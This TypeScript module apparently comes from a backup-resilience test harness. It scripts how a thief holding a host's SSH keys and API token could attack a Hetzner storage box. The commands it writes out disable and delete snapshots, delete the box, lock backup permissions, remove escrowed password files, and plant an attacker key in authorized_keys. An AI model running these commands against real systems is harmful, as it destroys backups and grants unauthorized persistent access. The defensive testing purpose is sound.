/** Attacks on a storage box over SSH, with the keys and accounts that a host has. */
import type { ShopServer } from "../rehearsal/shop-server.js";
import type { Answer } from "./damage.js";
import { setting, type Loot, type Target } from "./loot.js";
import { bearer } from "./thief-s3.js";
import { at, rclone, Tally, type Moves } from "./thief.js";

const OPTIONS =
  "-F /dev/null -T -o BatchMode=yes -o IdentitiesOnly=yes -o ConnectTimeout=10 -o UserKnownHostsFile=/etc/granary/known_hosts";

/** The account of a box that a host has, and the box behind it. */
function account(target: Target): { user: string; host: string; port: string; main: string } {
  const user = setting(target, "USER");
  return { user, host: setting(target, "HOST"), port: setting(target, "PORT"), main: user.replace(/-sub\d+$/, "") };
}

export function boxMoves(server: ShopServer, loot: Loot, target: Target, api: (vendor: string) => string): Moves {
  const { user, host, port, main } = account(target);
  const ssh = (command: string, as = user, key = "/etc/granary/box*_ed25519"): string =>
    `ssh ${OPTIONS} -p ${port} -i ${key} ${as}@${host} ${command}`;
  const several = async (...scripts: string[]): Promise<Answer> => {
    const tally = new Tally();
    for (const script of scripts) await tally.command(server, script);
    return tally;
  };
  const box = `${api("hetzner")}/v1/storage_boxes/${main.slice(1)}`;
  const snapshots = ["/home/.zfs/snapshot", ".zfs/snapshot", "../.zfs/snapshot", "/zfs/snapshot"];
  return {
    "copy/provider": () =>
      bearer(loot, [
        ["POST", `${box}/actions/disable_snapshot_plan`],
        ["GET", `${box}/snapshots`],
        ["DELETE", box],
      ]),
    "copy/retention": () => several(...snapshots.flatMap((at) => [ssh(`ls ${at}`), ssh(`rm -r ${at}`)])),
    "copy/main": () => several(ssh("ls", main)),
    "copy/login": () => several(LET_IN(ssh)),
    "backups/rights": () => several(ssh("chmod -R 000 daily")),
    "backups/versions": () => several(...snapshots.map((at) => ssh(`rm -r ${at}`))),
    "escrow/delete": () => several(rclone(target, `delete --include '*.password.age' ${at(target, "files")}`)),
  };
}

/** A key of the thief's own beside the host's, and a login with it. */
const LET_IN = (ssh: (command: string, as?: string, key?: string) => string): string => `set -e
  rm -f /tmp/thief /tmp/thief.pub
  ssh-keygen -q -t ed25519 -N '' -C '' -f /tmp/thief
  { ${ssh("cat .ssh/authorized_keys")}; cat /tmp/thief.pub; } >/tmp/both
  ${ssh("dd of=.ssh/authorized_keys")} </tmp/both
  ${ssh("ls", undefined, "/tmp/thief")}`;
